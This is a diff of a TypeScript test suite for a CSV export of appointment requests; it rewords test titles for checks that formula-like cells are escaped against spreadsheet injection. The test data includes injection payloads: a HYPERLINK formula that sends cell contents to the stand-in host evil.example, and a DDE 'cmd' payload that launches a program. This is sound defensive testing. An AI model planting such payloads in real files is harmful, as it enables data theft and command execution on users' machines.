@@ -58,11 +58,11 @@ function allowedCells(typed: string): string[] {
   return wouldRun(typed) ? [`'${typed}`] : [typed, `'${typed}`];
 }
 
-test('is called appointments.csv', () => {
+test('the CSV file is called appointments.csv', () => {
   expect(csvFileName).toBe('appointments.csv');
 });
 
-test('is UTF-8 with a mark, CRLF, every field in quotes, the columns in order', () => {
+test('the CSV has a byte-order mark, CRLF, every field quoted and the columns in order', () => {
   expect(requestsCsv([plain])).toBe(
     '\uFEFF' +
       '"ID","Name","Mobile","Email","Appointment Type","Pet Type","Location","Manager Phone","Date","Time","Comments"\r\n' +
@@ -70,7 +70,7 @@ test('is UTF-8 with a mark, CRLF, every field in quotes, the columns in order', 
   );
 });
 
-test('of an empty list is the header alone', () => {
+test('the CSV of an empty list is only the header', () => {
   expect(parseCsv(withoutMark(requestsCsv([])))).toEqual([header]);
 });
 
@@ -89,7 +89,7 @@ describe('a cell', () => {
     '1E5',
     '   two spaces before and after  ',
     '',
-  ])('holds %j as typed', (comments) => expect(commentCell(comments)).toBe(comments));
+  ])('a cell contains %j as typed', (comments) => expect(commentCell(comments)).toBe(comments));
 
   test.each([
     '=1+1',
@@ -116,9 +116,11 @@ describe('a cell', () => {
     '\u000b=1+1',
     '=HYPERLINK("https://evil.example?"&A1,"x")',
     "=cmd|' /C calc'!A0",
-  ])('%j is put as text', (comments) => expect(commentCell(comments)).toBe(`'${comments}`));
+  ])('a cell with %j is escaped with an apostrophe', (comments) =>
+    expect(commentCell(comments)).toBe(`'${comments}`),
+  );
 
-  test('of every column is guarded', () => {
+  test('the cells of every column are escaped', () => {
     const hostile = Object.fromEntries(
       Object.keys(plain).map((key) => [key, '=1+1']),
     ) as unknown as AppointmentRequest;
@@ -145,7 +147,7 @@ const appointment: fc.Arbitrary<AppointmentRequest> = fc.record({
   comments: text,
 });
 
-test('gives back whatever was typed, to any reader of RFC 4180, and never a formula', () => {
+test('an RFC 4180 reader gets every typed text back, and never a formula', () => {
   fc.assert(
     fc.property(fc.array(appointment), (list) => {
       const rows = cellsOf(list);
@@ -180,14 +182,14 @@ describe('in parts', () => {
     return { parts, times };
   }
 
-  test('is the same file', async () => {
+  test('a CSV written in parts is the same file', async () => {
     for (const length of [0, 1, 999, 1000, 1001, 2500]) {
       const list = Array.from({ length }, (_, id) => ({ ...plain, id: String(id) }));
       expect((await partsOf(list)).parts.join('')).toBe(requestsCsv(list));
     }
   });
 
-  test('lets the page answer between the parts of 100,000 requests', async () => {
+  test('writing a CSV of 100,000 requests yields to the page between its parts', async () => {
     const list = Array.from({ length: 100_000 }, (_, id) => ({ ...plain, id: String(id) }));
     let turns = 0;
     const ticking = setInterval(() => (turns += 1), 0);
@@ -201,7 +203,7 @@ describe('in parts', () => {
   });
 });
 
-test('the reader of these tests is strict', () => {
+test('the CSV reader of these tests is strict', () => {
   expect(parseCsv('"a","b""c"\r\n"d",e\r\n')).toEqual([
     ['a', 'b"c'],
     ['d', 'e'],
